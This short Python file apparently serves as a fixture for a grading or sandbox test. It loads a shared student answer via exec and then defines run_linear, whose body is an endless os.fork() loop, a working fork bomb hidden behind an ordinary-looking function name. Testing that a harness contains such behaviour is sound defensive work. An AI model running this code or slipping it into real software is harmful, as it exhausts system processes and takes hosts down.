"""Forker: forks without end (every child forks too)."""

# ruff: noqa: F821  (the helpers come from the shared answer this file executes first)
from pathlib import Path

_SHARED = Path(__file__).resolve().parent / "student_adapter.py"  # copied beside it by the tests
exec(compile(_SHARED.read_text(encoding="utf-8"), str(_SHARED), "exec"))

import os  # noqa: E402


def run_linear(x, weight, bias):
    while True:
        try:
            os.fork()
        except OSError:
            pass
